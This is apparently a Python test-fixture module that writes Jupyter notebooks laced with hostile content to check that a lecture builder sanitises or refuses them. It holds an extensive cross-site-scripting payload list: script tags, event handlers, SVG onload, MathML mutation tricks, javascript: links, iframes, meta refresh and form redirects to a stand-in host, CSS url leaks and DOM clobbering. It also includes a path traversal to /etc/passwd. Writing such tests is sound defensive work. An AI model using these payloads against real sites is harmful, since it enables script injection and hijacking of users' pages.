"""Notebooks that attack the lecture they become, and notebooks that are merely odd. Each is built, or refused by name."""

import base64
import copy
import json

EVIL = "https://evil.example"
RUN = "window.foreign = true"  # what a test looks for
SCRIPT = f"<script>{RUN};location = '{EVIL}'</script>"
SVG = f'<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9" onload="{RUN}">{SCRIPT}<image href="{EVIL}/i"/></svg>'
PNG = base64.b64encode(b"\x89PNG\r\n\x1a\n").decode()
EXPLORER = {"explorer": "LogitExplorer", "state": {"logits": [2.0, 1.0, 0.1], "target": 0, "temperature": 1.0}}


def markdown(source, **more):
    return {"cell_type": "markdown", "id": "text", "metadata": {}, "source": source} | more


def shown(data, metadata=None, kind="display_data", **more):
    output = {"output_type": kind, "data": data, "metadata": metadata or {}}
    cell = {"cell_type": "code", "id": "code", "metadata": {}, "source": "show()", "execution_count": 1}
    return cell | {"outputs": [output | ({"execution_count": 1} if kind == "execute_result" else {})]} | more


def printed(text):
    return shown({}) | {"outputs": [{"output_type": "stream", "name": "stdout", "text": text}]}


def live(**state):
    return shown(
        {"image/png": PNG, "text/plain": "explorer"},
        {"mathbp": {"explorer": "LogitExplorer", "state": EXPLORER["state"] | state}},
    )


TITLE = markdown("# A title\n\n## A slide")

# Raw HTML, which may stand in Markdown and in an output.
HTML = {
    "script": SCRIPT,
    "script in capitals": f"<ScRiPt>{RUN}</sCrIpT>",
    "module": f'<script type="module">{RUN}</script>',
    "script from elsewhere": f'<script src="{EVIL}/x.js"></script>',
    "script from data": f'<script src="data:text/javascript,{RUN}"></script>',
    "event": f'<b onclick="{RUN}" onmouseover="{RUN}" onfocus="{RUN}" tabindex="0" autofocus>bold</b>',
    "picture's error": f'<img src="data:image/png;base64,AAAA" onerror="{RUN}">',
    "svg": SVG,
    "svg in mathml": f"<math><mtext><mglyph><style><!--</style><img title='--><img src=1 onerror={RUN}>'>",
    "frame": f'<iframe src="{EVIL}"></iframe>',
    "frame with text": f'<iframe srcdoc="{SCRIPT.replace(chr(34), "&quot;")}"></iframe>',
    "object": f'<object data="{EVIL}/o"></object><embed src="{EVIL}/e">',
    "refresh": f'<meta http-equiv="refresh" content="0;url={EVIL}">',
    "base": f'<base href="{EVIL}/"><a href="x">x</a>',
    "form": f'<form action="{EVIL}"><input name="a" autofocus><button>send</button></form>',
    "style sheet": f'<link rel="stylesheet" href="{EVIL}/s.css"><link rel="dns-prefetch" href="//evil.example">',
    "styles": f"<style>@import url({EVIL}); body {{ background: url({EVIL}/b) }}</style>",
    "style": f'<p style="position: fixed; inset: 0; background: url({EVIL}/p)">over everything</p>',
    "style, escaped": f"<p style=\"background: \\75rl({EVIL}/p); list-style: image-set('{EVIL}/q' 1x)\">p</p>",
    "link that runs": f'<a href="javascript:{RUN}">go</a> <a href="java\tscript:{RUN}">go</a>',
    "link with data": f'<a href="data:text/html,{SCRIPT}">go</a>',
    "end of the page": f"</div></article></main></body></html>{SCRIPT}",
    "end of a comment": f"--><!-- {SCRIPT} --> --!> {SCRIPT}",
    "end of a title": f"</title></style></textarea></noscript>{SCRIPT}",
    "template": f"<template>{SCRIPT}</template>",
    "noscript": f'<noscript><p title="</noscript>{SCRIPT}">',
    "clobbering": '<img name="fonts" id="fonts"><form id="location"></form><a id="Reveal" name="Reveal">x</a>',
    "the builder's places": '<article><div class="stage slides menu" data-do="present"><aside class="notes">x</aside></div>',
    "slides of its own": f'<section data-background-iframe="{EVIL}" data-markdown="{EVIL}">x</section>',
    "explorer of its own": '<div data-mathbp-explorer="LogitExplorer" data-state="nonsense">x</div>',
    "mark in an attribute": f'<x-tex data-display="no"><b title="</x-tex>{SCRIPT}">x</b>',
    "mark in a mark": f"<b title='<x-tex data-display=\"no\">x</x-tex>{SCRIPT}'>x</b>",
    "dollars in an attribute": f'<b title="$x$ {SCRIPT}" id="$y$">x</b>',
    "audio and video": f'<video src="{EVIL}/v" poster="{EVIL}/p" autoplay></video><audio src="{EVIL}/a">',
    "srcset": f'<picture><source srcset="{EVIL}/s"><img src="data:image/png;base64,AAAA" srcset="{EVIL}/t 2x"></picture>',
    "never closed": "<div><table><tr><td><b><i><details><summary>",
    "null and odd spaces": f"<scr\0ipt>{RUN}</script><img/src=x:y/onerror={RUN}>".replace("src=x:y", "alt=x"),
}

# Name → cells that must become a lecture, or part of the message that must refuse it.
CASES = {
    **{f"markdown, {name}": ([markdown(html)], None) for name, html in HTML.items()},
    **{f"output, {name}": ([shown({"text/html": html, "text/plain": "x"})], None) for name, html in HTML.items()},
    "svg output": ([shown({"image/svg+xml": SVG})], None),
    "markdown output": ([shown({"text/markdown": f"{SCRIPT} **bold**"})], None),
    "latex output": ([shown({"text/latex": f"$x$ {SCRIPT}"})], None),
    "javascript output": ([shown({"application/javascript": RUN, "text/plain": "x"})], None),
    "printed": ([printed(f"{SCRIPT}\x1b[31m<b>red\x1b[0m \x00 \ud800")], None),
    "code": ([printed("x") | {"source": f"'{SCRIPT}'"}], None),
    "fenced code": ([markdown(f"```html\n{SCRIPT}\n```\n\n```mermaid\n{SCRIPT}\n```\n\n```{SCRIPT}\nx\n```")], None),
    "title": ([markdown(f"# </title>{SCRIPT} &lt;/title&gt;&lt;script&gt;{RUN}&lt;/script&gt; &quot;&gt;")], None),
    "heading": (
        [markdown(f"## <img src='data:image/png;base64,AAAA' onerror='{RUN}'> &quot; onclick={RUN} $x$")],
        None,
    ),
    "markdown link": (
        [markdown(f"[a](javascript:{RUN}) [b](data:text/html,x) <javascript:{RUN}> [c](//evil.example)")],
        None,
    ),
    "formula that links": ([markdown(rf"$\href{{javascript:{RUN}}}{{x}} \htmlData{{a=b}}{{x}}$")], None),
    "formula with tags": ([markdown(f"$x < y {SCRIPT} > z$")], None),
    "alt text": ([shown({"image/png": PNG}, {"image/png": {"alt": f'">{SCRIPT}'}})], None),
    "width": ([shown({"image/png": PNG}, {"image/png": {"width": f'1"><script>{RUN}</script>'}})], None),
    "slide type": ([markdown("x", metadata={"slideshow": {"slide_type": f'"><script>{RUN}</script>'}})], None),
    "slideshow as text": ([markdown("x", metadata={"slideshow": "slide"})], None),
    "tags as text": ([printed("x") | {"metadata": {"tags": "hide-input"}}], None),
    "cell id": ([markdown("x", id=f'"><script>{RUN}</script>')], None),
    "no cell id": ([{key: value for key, value in markdown("x").items() if key != "id"}], None),
    "output without data": ([{**printed("x"), "outputs": [{"output_type": "display_data", "metadata": {}}]}], None),
    "two cells of one id": ([markdown("x"), markdown("y")], None),
    "empty": ([], None),
    "raw cell": ([{"cell_type": "raw", "id": "raw", "metadata": {}, "source": SCRIPT}], None),
    "picture that is none": ([shown({"image/png": '"><script>'})], "cell code: a picture's data is not base64"),
    "picture from elsewhere": ([markdown(f"![x]({EVIL}/i.png)")], "cell text: a picture is not at hand: 'https://evil"),
    "picture of the machine": ([markdown("![x](../../../../etc/passwd)")], "cell text: a picture is not at hand"),
    "missing attachment": (
        [markdown("![x](attachment:x.png)", attachments={})],
        "cell text: .*missing attachment: x.png",
    ),
    "attachment that acts": (
        [markdown("![x](attachment:x)", attachments={"x": {"text/html": f'"><script>{RUN}</script>'}})],
        "cell text: a picture is not at hand",
    ),
    "explorer": ([live()], None),
    "explorer's state is text": (
        [shown({"text/plain": "x"}, {"mathbp": {"explorer": "LogitExplorer", "state": "none"}})],
        "cell code: LogitExplorer cannot be 'none'",
    ),
    "explorer's state is wrong": ([live(logits=["a"])], "cell code: LogitExplorer cannot be .*a"),
    "explorer with NaN": ([live(logits=[float("nan"), 1.0])], "cell code: LogitExplorer cannot be .*nan"),
    "explorer with a script": (
        [live(_esm=f"export default {{ render() {{ {RUN} }} }}", **{"<script>": 1})],
        "cell code: .*'<script>' is no part",
    ),
    "no explorer": ([shown({}, {"mathbp": {"explorer": "page", "state": {}}})], "cell code: .*'page'"),
    "explorer's metadata is text": ([shown({}, {"mathbp": "none"})], "cell code: "),
    "formula that is none": ([markdown(r"$\frac{1$")], r"cell text: KaTeX does not understand\n *\\frac\{1"),
    "html that is a number": ([shown({"text/html": 3})], "cell code: "),
    "failed": (
        [{**printed("x"), "outputs": [{"output_type": "error", "ename": "E", "evalue": "v", "traceback": []}]}],
        "cell code raised E: v",
    ),
}


def write(folder):
    """Write them all; a dict of name → (path, what the refusal says or None)."""
    written = {}
    for number, (name, (cells, refusal)) in enumerate(CASES.items()):
        cells = copy.deepcopy([TITLE | {"id": "title"}, *cells])
        minor = 4 if name == "no cell id" else 5
        if minor == 4:
            del cells[0]["id"]
        path = folder / f"case_{number}.ipynb"
        path.write_text(json.dumps({"nbformat": 4, "nbformat_minor": minor, "metadata": {}, "cells": cells}))
        written[name] = path, refusal
    return written
